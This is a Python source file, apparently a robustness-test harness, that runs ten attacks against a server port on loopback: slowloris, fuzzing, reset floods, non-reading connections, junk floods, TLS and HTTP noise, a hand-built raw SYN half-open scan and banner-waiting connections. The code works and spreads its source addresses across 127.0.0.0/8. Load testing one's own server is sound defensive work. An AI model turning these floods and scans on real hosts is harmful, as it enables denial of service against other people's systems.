"""Attacks on a server's port. Use them only against your own servers, on loopback.

Each attack is an endless generator. A step of it takes up to STEP actions, such as connections.
When the generator is closed, it closes all its connections.

The program `attacks.py NAME PORT RATE SECONDS` runs an attack with RATE actions per second (0: as
many as possible) until SIGTERM or for SECONDS, and then prints the number of actions.
"""

import contextlib
import os
import random
import resource
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Generator, Iterator

HOST = "127.0.0.1"
# Number of connections of `slowloris`, which never send a complete header.
SLOW = 10_000
# Number of connections of `deaf`, which request the whole file and never read.
DEAF = 1000
# Number of connections of `banner`, which wait for the server to send something first.
PATIENT = 500
# Number of actions in one step. An action is a connection or a send.
STEP = 50
# Number of connections of `junk`.
FLOODERS = 8
# Bytes of junk in one send.
FLOOD = 64 << 10

Attack = Generator[None, None, None]

# With this value of SO_LINGER, close(2) sends a reset instead of a FIN.
_RESET = struct.pack("ii", 1, 0)
# The beginning of a ClientHello of TLS.
_HELLO = b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03" + bytes(range(194))
_REQUEST = b"GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: scanner\r\nAccept: */*\r\n\r\n"
_LETTERS = b"0123456789+-_ex \t\r\n\0\xff"


def _connect(port: int, dice: random.Random) -> socket.socket:
    """Connect to the server from a random address in 127.0.0.0/8.

    A single address does not have enough ports for a flood.
    """
    sock = socket.socket()
    try:
        sock.settimeout(10)
        sock.bind((f"127.{dice.randrange(256)}.{dice.randrange(256)}.{dice.randrange(1, 255)}", 0))
        sock.connect((HOST, port))
        sock.setblocking(False)
    except OSError:
        sock.close()
        raise
    return sock


def _reset(sock: socket.socket) -> None:
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
    sock.close()


@contextlib.contextmanager
def _held() -> Iterator[list[socket.socket]]:
    """Give a list for connections, all of which are reset at the end."""
    socks: list[socket.socket] = []
    try:
        yield socks
    finally:
        for sock in socks:
            _reset(sock)


def _send(sock: socket.socket, data: bytes) -> bool:
    """Send as much of `data` as the socket accepts; return whether it is still connected."""
    try:
        sock.send(data)
    except BlockingIOError:
        # The send buffer is full.
        pass
    except OSError:
        return False
    return True


def slowloris(port: int, dice: random.Random, most: int = SLOW) -> Attack:
    """Keep `most` connections, and send single bytes on them, but never a complete header."""
    with _held() as socks:
        while True:
            for _ in range(min(STEP, most - len(socks))):
                socks.append(_connect(port, dice))
            for index in dice.sample(range(len(socks)), min(STEP, len(socks))):
                # The server refuses a header with too many blanks. Then connect again.
                if not _send(socks[index], b" "):
                    refused, socks[index] = socks[index], _connect(port, dice)
                    refused.close()
            yield


def fuzz(port: int, dice: random.Random) -> Attack:
    """Send random bytes in pieces, and disconnect in different ways."""
    while True:
        with _held() as socks:
            for _ in range(STEP):
                socks.append(_connect(port, dice))
            for sock in socks * 3:
                _send(sock, bytes(dice.choices(_LETTERS, k=dice.randrange(1, 20))))
            for sock in dice.sample(socks, STEP // 2):
                with contextlib.suppress(OSError):
                    sock.shutdown(dice.choice([socket.SHUT_WR, socket.SHUT_RDWR]))
        yield


def reset(port: int, dice: random.Random) -> Attack:
    """Connect, and reset the connection at once."""
    while True:
        for _ in range(STEP):
            _reset(_connect(port, dice))
        yield


def begin(port: int, dice: random.Random) -> Attack:
    """Request the whole file, and reset the connection at once."""
    while True:
        with _held() as socks:
            for _ in range(STEP):
                socks.append(_connect(port, dice))
                _send(socks[-1], b"0\n")
        yield


def junk(port: int, dice: random.Random) -> Attack:
    """Request only new data, and send as many bytes as the connection accepts."""
    with _held() as socks:
        for _ in range(FLOODERS):
            socks.append(_connect(port, dice))
            _send(socks[-1], b"-0\n")
        while True:
            for number in range(STEP):
                _send(socks[number % FLOODERS], bytes(FLOOD))
            yield


def deaf(port: int, dice: random.Random) -> Attack:
    """Request the whole file on many connections, and never read."""
    with _held() as socks:
        while True:
            for _ in range(min(STEP, DEAF - len(socks))):
                socks.append(_connect(port, dice))
                _send(socks[-1], b"0\n")
            if len(socks) == DEAF:
                # All connections are open, and nothing is left to do.
                time.sleep(0.01)
            yield


def tls(port: int, dice: random.Random) -> Attack:
    """Connect, and send the beginning of a TLS handshake."""
    return _speak(port, dice, _HELLO)


def http(port: int, dice: random.Random) -> Attack:
    """Connect, and send an HTTP request."""
    return _speak(port, dice, _REQUEST)


def _speak(port: int, dice: random.Random, request: bytes) -> Attack:
    while True:
        with _held() as socks:
            for _ in range(STEP):
                socks.append(_connect(port, dice))
                _send(socks[-1], request)
        yield


def scan(port: int, dice: random.Random) -> Attack:
    """Scan the port: connect and close, connect and reset, or send only a SYN."""
    while True:
        for _ in range(STEP):
            leave = dice.choice([socket.socket.close, _reset])
            leave(_connect(port, dice))
        # Raw sockets need CAP_NET_RAW.
        with contextlib.suppress(PermissionError):
            _half_open(port, dice)
        yield


def _half_open(port: int, dice: random.Random) -> None:
    """Send SYNs from a raw socket, as `nmap -sS` does.

    The kernel of this host, which does not know these connections, answers the server's SYN-ACKs
    with resets.
    """
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as sock:
        for _ in range(STEP):
            sock.sendto(_syn(port, dice), (HOST, 0))


def _syn(port: int, dice: random.Random) -> bytes:
    segment = bytearray(
        struct.pack(
            "!HHIIBBHHH",
            dice.randrange(1024, 32768),
            port,
            dice.getrandbits(32),
            0,
            5 << 4,
            2,
            1024,
            0,
            0,
        )
    )
    # The kernel chooses the source address: on loopback it is the destination address.
    pseudo = socket.inet_aton(HOST) * 2 + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    total = sum(struct.unpack(f"!{(len(pseudo) + len(segment)) // 2}H", pseudo + segment))
    struct.pack_into("!H", segment, 16, ~(total % 0xFFFF) & 0xFFFF)
    return bytes(segment)


def banner(port: int, dice: random.Random) -> Attack:
    """Connect, wait for the server to send a banner, and disconnect without sending anything."""
    with _held() as socks:
        while True:
            for _ in range(STEP):
                socks.append(_connect(port, dice))
            while len(socks) > PATIENT:
                socks.pop(0).close()
            yield


ATTACKS: dict[str, Callable[[int, random.Random], Attack]] = {
    attack.__name__: attack
    for attack in (slowloris, fuzz, reset, begin, junk, deaf, tls, http, scan, banner)
}

# How many connections an attack keeps open, once it has reached that number.
KEPT = {"slowloris": SLOW, "junk": FLOODERS, "deaf": DEAF, "banner": PATIENT}


def run(steps: Attack, rate: float) -> Iterator[None]:
    """Run `steps` with `rate` actions per second; 0 means as fast as possible.

    If the steps fall behind, they are not run faster afterwards to make up for it.
    """
    due = time.monotonic()
    for _ in steps:
        yield
        if rate:
            due = max(due + STEP / rate, time.monotonic() - STEP / rate)
            time.sleep(max(0.0, due - time.monotonic()))


def main(name: str, port: str, rate: str, seconds: str) -> None:
    """Run the attack that the command line names.

    It runs with the idle scheduling policy, and so uses only processor time that no other process
    needs. Real attackers have processors of their own.
    """
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    _, descriptors = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, descriptors))
    signal.signal(signal.SIGTERM, _end)
    signal.signal(signal.SIGALRM, _end)
    signal.alarm(int(seconds))
    done = 0
    try:
        while True:
            # A connection fails if the server is too busy. Then start the attack again.
            with contextlib.suppress(OSError):
                for _ in run(ATTACKS[name](int(port), random.Random(1)), float(rate)):
                    done += STEP
    finally:
        print(done)


def _end(*_: object) -> None:
    raise SystemExit


if __name__ == "__main__":
    main(*sys.argv[1:])
